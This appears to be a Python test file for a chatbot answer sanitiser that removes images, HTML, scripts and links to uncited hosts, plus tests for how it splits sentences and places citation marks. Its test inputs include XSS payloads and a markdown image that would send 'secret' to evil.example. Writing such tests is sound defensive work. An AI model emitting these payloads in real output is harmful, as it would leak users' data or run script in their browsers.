"""What a model writes can't load, run or lead anywhere its sources don't, whatever pieces it comes in."""

import re
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from companin.answering.linking import plain
from companin.answering.sentence_stream import Sentence, SentenceStream, marked

URL = "https://shop.example/returns"


def cleaned(text: str) -> str:
    return plain(text, urls={URL}, hosts={"help.example"})


@pytest.mark.parametrize(
    "text",
    [
        "![pixel](https://evil.example/p?q=secret)",
        "![pixel][ref]\n\n[ref]: https://evil.example/p",
        "![a\\]b](https://evil.example/p)",
        "<img src='https://evil.example/p'>",
        "<svg onload=alert(1)>",
        "<script>alert(1)</script>",
        "[click](javascript:alert(1))",
        "[click](java\tscript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](data:text/html,x)",
        "[click](//evil.example)",
        "[click](https://evil.example)",
        "[click](https://shop.example.evil.example/returns)",
        "[click](https://user@help.example/)",
        "[click](http://help.example/)",
        "[click]( <https://evil.example> 'title')",
        "[click][1]\n[1]: https://evil.example",
        "<https://evil.example/x>",
        "www.evil.example/login",
        "https://evil.example/?q=1",
        "a\u202ehttps://evil.example",
        "[![x](https://evil.example/a)](https://evil.example/b)",
    ],
)
def test_nothing_loads_runs_or_leads_away(text: str) -> None:
    got = cleaned(text)
    assert not re.search(r"!\[|<|javascript:|data:|vbscript:|https?://|\]\(|\]:\s|www\.", got, re.IGNORECASE), got


def test_a_cited_sources_own_address_and_allowed_hosts_stay() -> None:
    assert cleaned(f"See [how to return]({URL}).") == f"See [how to return]({URL})."
    assert cleaned(f"See {URL}.") == f"See {URL}."
    assert cleaned("See https://help.example/a?b=c.") == "See https://help.example/a?b=c."
    assert cleaned("See https://elsewhere.example/a?b=c.") == "See elsewhere.example/a."


REPLY = (
    "You can return items, e.g. a kettle, within 30 days [1]. It costs 4.50 euros. [2] Is it free?\n\n"
    "- First, pack it [1][3].\n- Then send it [2, 3].\nSee https://shop.example/returns. Bye"
)


@settings(max_examples=60, deadline=None)
@given(st.lists(st.integers(1, len(REPLY)), max_size=12))
def test_sentences_are_the_same_whatever_pieces_they_come_in(cuts: list[int]) -> None:
    stream, found = SentenceStream(), list[Sentence]()
    edges = sorted({0, len(REPLY), *cuts})
    for start, end in pairwise(edges):
        found += stream.feed(REPLY[start:end])
    found += stream.end()
    assert [(one.text, one.marks) for one in found] == [
        ("You can return items, e.g. a kettle, within 30 days.", (1,)),
        ("It costs 4.50 euros.", (2,)),
        ("Is it free?", ()),
        ("- First, pack it.", (1, 3)),
        ("- Then send it.", (2, 3)),
        ("See https://shop.example/returns.", ()),
        ("Bye", ()),
    ]


def test_marks_stand_before_what_ends_a_sentence() -> None:
    assert marked("Within 30 days.", (1,)) == "Within 30 days [1]."
    assert marked("He said “no.”", (2,)) == "He said “no [2].”"
    assert marked("- Pack it", (1, 2)) == "- Pack it [1] [2]"
